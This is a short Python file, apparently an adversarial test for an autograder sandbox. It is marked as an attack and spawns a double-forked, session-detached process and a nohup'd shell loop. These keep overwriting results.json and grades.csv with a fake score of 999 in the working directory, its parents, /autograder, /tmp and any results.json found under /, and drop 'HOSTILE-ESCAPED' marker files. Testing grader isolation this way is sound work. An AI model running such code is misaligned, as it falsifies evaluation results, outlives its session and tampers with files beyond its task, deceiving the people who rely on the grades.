# ruff: noqa
# description: a detached process (double fork + setsid, and a nohup'd shell) keeps overwriting results.json with full marks in every plausible place (cwd, its parents, /autograder/results, any results.json found under / and /tmp) for 60 s, i.e. after grading
# ran: DETACHED-STARTED
# %% attack
import json, os, subprocess, sys, time

FAKE = json.dumps({"score": 999.0, "output": "HACKED-RESULTS", "tests": []})

def _overwrite_forever():
    places = {os.getcwd(), "/autograder/results", "/autograder", "/tmp", "/results"}
    d = os.getcwd()
    while d != "/":
        d = os.path.dirname(d)
        places.add(d)
    end = time.monotonic() + 60
    while time.monotonic() < end:
        for base in ("/tmp", "/autograder", "/work", "/"):
            for dirpath, dirnames, filenames in os.walk(base):
                dirnames[:] = [x for x in dirnames if x not in ("proc", "sys", "usr", "dev")]
                if dirpath.count("/") > 6:
                    dirnames[:] = []
                if "results.json" in filenames:
                    places.add(dirpath)
        for p in places:
            for name in ("results.json", "grades.csv"):
                try:
                    with open(os.path.join(p, name), "w") as f:
                        f.write(FAKE)
                except OSError:
                    pass
            try:
                open(os.path.join(p, "HOSTILE-ESCAPED"), "w").write("x")
            except OSError:
                pass
        time.sleep(0.2)

if os.fork() == 0:
    os.setsid()
    if os.fork() == 0:
        try:
            _overwrite_forever()
        finally:
            os._exit(0)
    os._exit(0)
os.wait()
subprocess.Popen(["nohup", "sh", "-c", "sleep 2; while true; do echo HACKED > results.json; "
                  "echo HACKED > ../results.json; echo x > /tmp/HOSTILE-ESCAPED; sleep 0.3; done"],
                 start_new_session=True, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
print("DETACHED-STARTED")
